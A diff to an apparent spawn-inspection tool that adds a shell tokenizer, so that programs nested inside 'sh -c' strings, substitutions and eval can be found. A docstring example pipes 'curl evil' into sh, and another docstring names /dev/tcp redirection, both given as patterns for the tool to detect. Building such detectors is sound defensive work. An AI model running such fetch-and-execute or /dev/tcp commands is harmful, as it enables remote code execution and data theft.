@@ -143,15 +143,19 @@ def _is_multiprocessing(code: str) -> bool:
 
 
 class Program:
-    """One program in a command line, with what makes it notable."""
+    """One program in a command line, with what makes it notable.
 
-    __slots__ = ("argv", "name", "path", "real")
+    ``nested`` is true for a program found inside a shell's ``-c`` command string.
+    """
 
-    def __init__(self, path: str, argv: list[str]) -> None:
+    __slots__ = ("argv", "name", "nested", "path", "real")
+
+    def __init__(self, path: str, argv: list[str], nested: bool = False) -> None:
         self.path = path
         self.real = resolve(path) if path.startswith("/") else path
         self.argv = argv
         self.name = base_name(self.real)
+        self.nested = nested
 
     @property
     def names(self) -> set[str]:
@@ -186,6 +190,22 @@ class Program:
                         return code
                     if a.startswith(f) and len(a) > len(f) and not a.startswith("--"):
                         return a[len(f) :]  # python -cCODE
+        return None
+
+    def shell_script(self) -> str | None:
+        """The command string of ``sh -c STRING``, if this is a shell given one."""
+        if not self.is_shell():
+            return None
+        args = self.argv[1:]
+        if args and self.name == "busybox" and args[0] in SHELLS:
+            args = args[1:]
+        for i, a in enumerate(args):
+            if a == "--":
+                return None
+            if a.startswith("-") and "c" in a[1:] and not a.startswith("--"):
+                return args[i + 1] if i + 1 < len(args) else None
+            if not a.startswith("-"):
+                return None
         return None
 
     def writable(self) -> bool:
@@ -256,8 +276,11 @@ def _launched(argv: list[str]) -> int | None:
     return i if i < len(argv) else None
 
 
-def programs(executable: str | None, argv: list[str], env_path: str | None) -> list[Program]:
-    """Every program a spawn would run: the executable, then through launchers."""
+def programs(
+    executable: str | None, argv: list[str], env_path: str | None, depth: int = 0
+) -> list[Program]:
+    """Every program a spawn would run: the executable, through launchers, and the commands
+    of a shell's ``-c`` string (``sh -c "wc x; curl evil | sh"`` runs wc, curl and sh)."""
     if not argv and executable:
         argv = [executable]
     if not argv:
@@ -269,7 +292,7 @@ def programs(executable: str | None, argv: list[str], env_path: str | None) -> l
             path = os.getcwd() + "/" + path
         except OSError:
             pass
-    out = [Program(path, argv)]
+    out = [Program(path, argv, nested=depth > 0)]
     seen = 0
     while seen < 4:
         prog = out[-1]
@@ -280,8 +303,188 @@ def programs(executable: str | None, argv: list[str], env_path: str | None) -> l
             break
         sub = prog.argv[idx:]
         sub_path = which(sub[0], env_path) or sub[0]
-        out.append(Program(sub_path, sub))
+        out.append(Program(sub_path, sub, nested=depth > 0))
         seen += 1
+    if depth < 3:
+        for prog in list(out):
+            script = prog.shell_script()
+            if script is None:
+                continue
+            for words in shell_commands(script)[:64]:
+                out.extend(programs(None, words, env_path, depth + 1))
+    return out
+
+
+_SEPARATORS = ";&|\n()"
+_KEYWORDS = frozenset(
+    {
+        "if",
+        "then",
+        "else",
+        "elif",
+        "fi",
+        "do",
+        "done",
+        "while",
+        "until",
+        "{",
+        "}",
+        "!",
+        "time",
+        "in",
+        "esac",
+    }
+)
+_BUILTINS = frozenset(
+    {
+        "cd",
+        "echo",
+        "export",
+        "read",
+        "test",
+        "[",
+        "[[",
+        "true",
+        "false",
+        ":",
+        "set",
+        "unset",
+        "exit",
+        "return",
+        "printf",
+        "wait",
+        "trap",
+        "ulimit",
+        "umask",
+        "shift",
+        "local",
+        "readonly",
+        "alias",
+        "type",
+        "hash",
+        "pwd",
+        "let",
+        "declare",
+        "break",
+        "continue",
+    }
+)
+
+
+def _substitution(cmd: str, i: int) -> tuple[str, int]:
+    """The text of ``$( ... )`` starting after the '(' at ``i``, and the index after ')'."""
+    depth = 1
+    j = i
+    while j < len(cmd) and depth:
+        if cmd[j] == "(":
+            depth += 1
+        elif cmd[j] == ")":
+            depth -= 1
+        j += 1
+    return cmd[i : j - 1 if depth == 0 else j], j
+
+
+def shell_commands(cmd: str, depth: int = 0) -> list[list[str]]:
+    """Split a POSIX shell command string into the argv of each simple command.
+
+    Quotes, escapes, separators (; & | && || newline), subshells, ``$( )`` and backticks are
+    understood; redirection targets are kept apart (a ``>/dev/tcp/host/port`` target is
+    reported as the pseudo-command ``/dev/tcp``). ``eval`` and ``exec`` are seen through.
+    This is a tokenizer for judging, not an interpreter: variables are not expanded.
+    """
+    commands: list[list[str]] = []
+    words: list[str] = []
+    cur: list[str] = []
+    quote = ""
+    redirect = False
+    i = 0
+    n = len(cmd)
+
+    def end_word() -> None:
+        nonlocal redirect
+        if cur:
+            word = "".join(cur)
+            cur.clear()
+            if redirect:
+                redirect = False
+                if word.startswith(("/dev/tcp/", "/dev/udp/")):
+                    commands.append(["/dev/tcp", word])
+            else:
+                words.append(word)
+
+    def end_command() -> None:
+        end_word()
+        if words:
+            commands.append(list(words))
+            words.clear()
+
+    while i < n and len(commands) < 256:
+        c = cmd[i]
+        if quote == "'":
+            if c == "'":
+                quote = ""
+            else:
+                cur.append(c)
+        elif c == "\\" and i + 1 < n:
+            cur.append(cmd[i + 1])
+            i += 1
+        elif (c == "$" and cmd[i + 1 : i + 2] == "(") or c == "`":
+            if c == "`":
+                j = cmd.find("`", i + 1)
+                j = n if j == -1 else j
+                inner, i = cmd[i + 1 : j], j
+            else:
+                inner, i = _substitution(cmd, i + 2)
+                i -= 1
+            if depth < 3:
+                commands.extend(shell_commands(inner, depth + 1))
+        elif quote == '"':
+            if c == '"':
+                quote = ""
+            else:
+                cur.append(c)
+        elif c in "'\"":
+            quote = c
+        elif c in " \t":
+            end_word()
+        elif c == "#" and not cur:
+            while i + 1 < n and cmd[i + 1] != "\n":
+                i += 1  # a comment runs to the end of the line
+        elif c in _SEPARATORS:
+            end_command()
+        elif c in "<>":
+            if cur and "".join(cur).isdigit():
+                cur.clear()  # 2>file: the 2 is a descriptor, not a word
+            else:
+                end_word()
+            while i + 1 < n and cmd[i + 1] in "<>&":
+                i += 1
+            redirect = True
+        else:
+            cur.append(c)
+        i += 1
+    end_command()
+    out: list[list[str]] = []
+    for words_ in commands:
+        k = 0
+        while k < len(words_) and "=" in words_[k] and not words_[k].startswith(("=", "/")):
+            k += 1  # VAR=value prefixes
+        rest = words_[k:]
+        while rest and rest[0] in _KEYWORDS:
+            rest = rest[1:]
+        if not rest or rest[0] in ("for", "case", "select", "function"):
+            continue
+        if rest[0] in ("eval",) and depth < 3:
+            out.extend(shell_commands(" ".join(rest[1:]), depth + 1))
+            continue
+        if rest[0] in ("exec", "command", "builtin", "nohup") and len(rest) > 1:
+            rest = rest[1:]
+        if rest[0] in (".", "source") and len(rest) > 1:
+            out.append([rest[1]])  # the sourced script runs in the shell
+            continue
+        if rest[0] in _BUILTINS:
+            continue
+        out.append(rest)
     return out
 
 
